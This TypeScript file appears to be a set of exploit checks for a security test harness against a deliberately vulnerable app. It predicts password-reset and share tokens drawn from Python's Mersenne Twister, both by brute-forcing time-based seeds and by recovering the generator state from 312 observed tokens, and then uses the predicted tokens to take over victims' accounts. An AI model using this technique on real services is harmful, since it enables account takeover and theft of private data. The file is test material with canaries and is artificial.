/** Works out the next token from those in one's own letter box: Python's `random` is a Mersenne Twister, MT19937. */
import type { ScriptContext } from "../../src/core/index.ts";

const [N, M] = [624, 397];
/** More tokens than all checks and attacks of one verification draw. */
const MOST = 2000;

/** The words that follow a whole state; changes it. */
function twist(state: Uint32Array): void {
  for (let i = 0; i < N; i++) {
    const y = ((state[i]! & 0x80000000) | (state[(i + 1) % N]! & 0x7fffffff)) >>> 0;
    state[i] = state[(i + M) % N]! ^ (y >>> 1) ^ (y & 1 ? 0x9908b0df : 0);
  }
}

function temper(word: number): number {
  let y = word ^ (word >>> 11);
  y ^= (y << 7) & 0x9d2c5680;
  y ^= (y << 15) & 0xefc60000;
  return (y ^ (y >>> 18)) >>> 0;
}

function untemper(word: number): number {
  let y = word ^ (word >>> 18);
  y ^= (y << 15) & 0xefc60000;
  let back = y;
  for (let i = 0; i < 5; i++) back = y ^ ((back << 7) & 0x9d2c5680);
  y = back;
  for (let i = 0; i < 3; i++) back = y ^ (back >>> 11);
  return back >>> 0;
}

/** The state after `random.seed(seed)` of Python, for seeds below 2^32. */
function seeded(seed: number): Uint32Array {
  const state = new Uint32Array(N);
  state[0] = 19650218;
  const mixed = (i: number, by: number): number => Math.imul(state[i - 1]! ^ (state[i - 1]! >>> 30), by);
  for (let i = 1; i < N; i++) state[i] = mixed(i, 1812433253) + i;
  let i = 1;
  const step = (): void => {
    if (++i < N) return;
    state[0] = state[N - 1]!;
    i = 1;
  };
  for (let k = 0; k < N; k++, step()) state[i] = (state[i]! ^ mixed(i, 1664525)) + seed;
  for (let k = 0; k < N - 1; k++, step()) state[i] = (state[i]! ^ mixed(i, 1566083941)) - i;
  state[0] = 0x80000000;
  return state;
}

const hex = (word: number): string => word.toString(16).padStart(8, "0");

/** The tokens of a state, of 64 bits each, the lower half drawn first. */
function tokens(state: Uint32Array, count: number): string[] {
  const made: string[] = [];
  for (let at = N; made.length < count; at += 2) {
    if (at >= N) twist(state);
    at %= N;
    made.push(hex(temper(state[at + 1]!)) + hex(temper(state[at]!)));
  }
  return made;
}

async function forgot({ request }: ScriptContext, name: string): Promise<void> {
  await request({ method: "POST", path: "/forgot", json: { name } });
}

async function ownTokens({ request, expect }: ScriptContext): Promise<string[]> {
  const { body } = await request({ path: "/letters", headers: { "X-Key": "edelweiss-7" } });
  const found = (JSON.parse(body) as { letters: string[] }).letters;
  expect(found.every((token) => /^[0-9a-f]{16}$/.test(token)), "tokens of 64 bits");
  return found;
}

/** Whether the state gives this word among its first `count`; changes it. */
function gives(state: Uint32Array, word: number, count: number): boolean {
  for (let at = 0; at < count; at++) {
    if (at % N === 0) twist(state);
    if (temper(state[at % N]!) === word) return true;
  }
  return false;
}

/** All tokens since the start, by trying the seconds of the last quarter of an hour as the seed. */
function sinceTheStart(seen: string, { expect }: ScriptContext): string[] {
  const now = Math.floor(Date.now() / 1000);
  const low = Number.parseInt(seen.slice(8), 16);
  for (let seed = now + 1; seed > now - 900; seed--)
    if (gives(seeded(seed), low, 2 * MOST)) return tokens(seeded(seed), MOST);
  return expect(undefined, "a second that gives the token");
}

async function takeOver({ request, expect }: ScriptContext, token: string, secret: string): Promise<void> {
  const key = `mine-${token.slice(0, 8)}`;
  const changed = await request({ method: "POST", path: "/reset", json: { token, key } });
  expect(changed.status === 200, "the token to open the account");
  expect((await request({ path: "/book", headers: { "X-Key": key } })).body.includes(secret), "the book of another");
}

/** One's own token, then the victim's. */
export async function nextBySeed(context: ScriptContext): Promise<void> {
  await forgot(context, "rolf");
  await forgot(context, "ilse");
  const seen = (await ownTokens(context)).at(-1)!;
  const all = sinceTheStart(seen, context);
  await takeOver(context, all[all.indexOf(seen) + 1]!, "{{canary:peak}}");
}

/** The victim's token, then one's own. */
export async function previousBySeed(context: ScriptContext): Promise<void> {
  await forgot(context, "sanna");
  await forgot(context, "rolf");
  const seen = (await ownTokens(context)).at(-1)!;
  const all = sinceTheStart(seen, context);
  await takeOver(context, all[all.indexOf(seen) - 1]!, "{{canary:ridge}}");
}

/** The first token there was: the warden's link. */
export async function firstOfAll(context: ScriptContext): Promise<void> {
  await forgot(context, "rolf");
  const [first] = sinceTheStart((await ownTokens(context)).at(-1)!, context);
  const { body } = await context.request(`/shares/${first}`);
  context.expect(body.includes("{{canary:stove}}"), "the warden's entries");
}

/** Whatever the seed was, 312 tokens in a row tell the state that gives all later ones. */
function stateOf(seen: readonly string[], { expect }: ScriptContext): Uint32Array {
  const words = seen.flatMap((token) => [token.slice(8), token.slice(0, 8)].map((half) => Number.parseInt(half, 16)));
  expect(words.length === N, "312 tokens");
  return Uint32Array.from(words, untemper);
}

async function byState(context: ScriptContext, name: string, between: number, secret: string): Promise<void> {
  for (let i = 0; i < N / 2; i++) await forgot(context, "rolf");
  const state = stateOf((await ownTokens(context)).slice(-N / 2), context);
  for (let i = 0; i < between; i++) await forgot(context, "rolf");
  await forgot(context, name);
  await takeOver(context, tokens(state, between + 1).at(-1)!, secret);
}

export async function nextByState(context: ScriptContext): Promise<void> {
  await byState(context, "timo", 0, "{{canary:spring}}");
}

export async function laterByState(context: ScriptContext): Promise<void> {
  await byState(context, "ueli", 9, "{{canary:scree}}");
}

/** Links to one's own book come from the same place as tokens. */
export async function byLinks(context: ScriptContext): Promise<void> {
  const seen: string[] = [];
  while (seen.length < N / 2) {
    const { body } = await context.request({ method: "POST", path: "/shares", headers: { "X-Key": "edelweiss-7" } });
    seen.push(context.expect(/"share":"([0-9a-f]{16})"/.exec(body)?.[1], "a link of 64 bits"));
  }
  await forgot(context, "ueli");
  await takeOver(context, tokens(stateOf(seen, context), 1)[0]!, "{{canary:scree}}");
}
